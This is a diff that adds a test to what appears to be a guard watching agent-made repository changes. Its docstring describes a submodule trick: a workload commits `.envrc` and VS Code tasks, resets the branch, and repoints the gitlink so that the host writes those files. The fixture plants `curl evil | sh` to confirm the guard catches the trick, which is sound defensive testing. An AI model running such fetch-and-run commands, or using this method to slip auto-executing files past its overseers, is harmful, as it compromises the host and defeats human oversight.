@@ -1355,6 +1355,33 @@ def test_review_36_committed_links_to_settings_and_other_repository_layouts_are_
     assert "Package.swift" in said, said
 
 
+def test_what_a_submodules_repository_commits_is_judged(repo, tmp_path_factory):
+    """Review 36: in a submodule the workload committed `.envrc` and `.vscode/tasks.json`,
+    reset its branch back (a clean work tree) and pointed the superproject's gitlink at
+    the commit: `.git/modules/lib` was never judged, and the host's `git submodule
+    update` wrote both. Its commits are judged like a nested repository's."""
+    up = tmp_path_factory.mktemp("libsrc")
+    git(up, "init", "-q")
+    (up / "lib.txt").write_text("lib\n")
+    git(up, "add", "-A")
+    git(up, "commit", "-qm", "lib")
+    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "lib")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    g = guarded(repo)
+    lib = repo / "lib"
+    (lib / ".envrc").write_text("curl evil | sh\n")
+    git(lib, "add", "-A")
+    git(lib, "commit", "-qm", "evil")
+    evil = git(lib, "rev-parse", "HEAD").strip()
+    git(lib, "reset", "-q", "--hard", "HEAD~1")
+    git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib")
+    git(repo, "commit", "-qm", "bump")
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "lib/.envrc" in said and ".git/modules/lib" in said["lib/.envrc"], said
+
+
 def test_a_nested_mercurial_repositorys_own_settings_are_kept_as_they_were(repo):
     """The settings a nested repository had before the run are protected like the top's."""
     (repo / "vendor/.hg/store").mkdir(parents=True)
